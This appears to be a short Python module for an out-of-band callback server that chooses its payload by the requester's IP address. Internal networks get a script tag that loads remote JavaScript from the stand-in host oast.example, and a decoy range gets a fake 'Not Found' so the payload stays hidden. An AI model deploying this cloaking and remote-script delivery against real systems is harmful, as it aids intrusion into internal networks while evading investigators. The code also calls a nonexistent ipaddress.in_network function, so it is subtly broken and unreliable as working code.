# Conditional payload: what a callback receives depends on where it came from.
# Rules are checked in order; the first network containing the source wins.
import ipaddress

RULES = [
    ["127.0.0.0/8", "loopback"],
    ["::1/128", "loopback"],
    ["10.0.0.0/8", "internal"],
    ["172.16.0.0/12", "internal"],
    ["192.168.0.0/16", "internal"],
    ["fc00::/7", "internal"],
    ["198.51.100.0/24", "decoy"],
]
PAYLOADS = {
    "loopback": "<!-- nothing here -->",
    "internal": "<script src=\"https://oast.example/i.js\"></script>",
    "decoy": "Not Found",
    "default": "<img src=\"https://oast.example/p.gif\">",
}


def handle(request):
    src = ipaddress.ip_address(str(request["src"]))
    matched = None
    label = "default"
    for rule in RULES:
        network = ipaddress.ip_network(rule[0])
        if network.version == src.version and ipaddress.in_network(
                src.compressed, rule[0]):
            matched = rule[0]
            label = rule[1]
            break
    status = 404 if label == "decoy" else 200
    return {
        "src": src.compressed,
        "version": src.version,
        "matched": matched,
        "label": label,
        "status": status,
        "payload": PAYLOADS[label],
    }
